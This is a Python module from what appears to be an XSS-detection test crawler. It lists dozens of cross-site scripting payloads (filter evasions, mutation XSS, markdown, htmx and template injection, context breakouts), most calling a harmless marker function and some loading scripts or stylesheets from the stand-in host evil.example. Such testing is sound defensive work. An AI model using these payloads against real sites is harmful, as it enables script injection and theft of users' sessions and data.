"""XSS payloads: each calls ``xss()`` (defined by the crawl, counted in ``window.__xss``) or opens a
dialog, or loads from ``evil.example``, so running, surviving in the DOM or fetching is detected.
Classic vectors, filter evasions, mutation XSS, markdown links and images, template and htmx
attribute injection, and breakouts from attributes, textarea, title and script contexts."""

from __future__ import annotations

PAYLOADS = [
    "<script>xss()</script>",
    "<img src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<body onload=xss()>",
    '<iframe src="javascript:xss()"></iframe>',
    '<iframe srcdoc="<script>parent.xss()</script>">',
    '<a href="javascript:xss()">j1</a>',
    '<a href="JaVaScRiPt:xss()">j2</a>',
    '<a href="&#106;avascript:xss()">j3</a>',
    '<a href="java&#x09;script:xss()">j4</a>',
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()>",
    '<object data="javascript:xss()">',
    '<embed src="javascript:xss()">',
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    '"><img src=x onerror=xss()>',
    "'><svg onload=xss()>",
    "</textarea><script>xss()</script>",
    "</title><script>xss()</script>",
    "</script><script>xss()</script>",
    "{{7*7}}{% debug %}<img src=x onerror=xss()>",
    "${xss()}`${xss()}`",
    "javascript:xss()",
    "[m1](javascript:xss())",
    "[m2](JAVASCRIPT:xss())",
    '![m3](x" onerror="xss())',
    "![m4](https://evil.example/t.png)",
    '<img src="https://evil.example/t2.png">',
    "[m5](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)",
    '<form action="javascript:xss()"><button>f</button></form>',
    '<button formaction="javascript:xss()">b</button>',
    '<div style="background:url(javascript:xss())">s</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
    '<base href="https://evil.example/">',
    "<marquee onstart=xss()>",
    '<div onmouseover="xss()">h</div>',
    "<img src=x:x onerror=&#x78;ss()>",
    "<IMG SRC=x ONERROR=xss()>",
    "<img/src=x/onerror=xss()>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:xss()"><text y=9>x</text></a></svg>',
    "<x contenteditable autofocus onfocus=xss()>e</x>",
    "<script src=https://evil.example/x.js></script>",
    '<img src=x onerror="&#0000120;ss()">',
    "%3Cscript%3Exss()%3C/script%3E",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<template><script>xss()</script></template>",
    '<a href="data:text/html,<script>xss()</script>">d</a>',
    "`<img src=x onerror=xss()>`",
    '<p hx-get="/xss-hx/" hx-trigger="load">h1</p>',
    '<div hx-on:htmx:load="xss()">h2</div>',
    '<div data-hx-post="/xss-hx/" data-hx-trigger="load">h3</div>',
    "<img src=x onerror=xss()//",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "</script><img src=x onerror=xss()>",
    '<a href=" &#14; javascript:xss()">j5</a>',
    "<isindex action=javascript:xss() type=image>",
    "<img src=x onerror=alert('xss')>",
]


def pack(prefix: str, limit: int) -> list[str]:
    """The payloads packed into as few strings of at most ``limit`` characters as possible, each
    starting with ``prefix`` (which names the field, so the crawl can tell where text showed)."""
    chunks: list[str] = []
    current = prefix
    for payload in PAYLOADS:
        if len(prefix) + 1 + len(payload) > limit:
            raise ValueError(f"payload longer than {limit - len(prefix) - 1} characters: {payload}")
        if len(current) + 1 + len(payload) > limit:
            chunks.append(current)
            current = prefix
        current += " " + payload
    chunks.append(current)
    return chunks
